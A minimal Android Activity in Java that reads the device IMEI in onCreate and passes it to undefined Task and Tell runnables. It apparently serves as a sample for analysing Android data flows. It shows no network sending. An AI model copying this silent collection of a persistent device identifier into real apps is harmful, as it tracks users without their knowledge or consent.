package p;

import android.app.Activity;
import android.os.Bundle;
import android.os.Handler;
import android.os.Looper;
import android.telephony.TelephonyManager;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        TelephonyManager phone = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
        Handler handler = new Handler(Looper.getMainLooper());
        handler.post(new Task(this, phone.getImei(), true));
        handler.post(new Tell("opened"));
    }
}
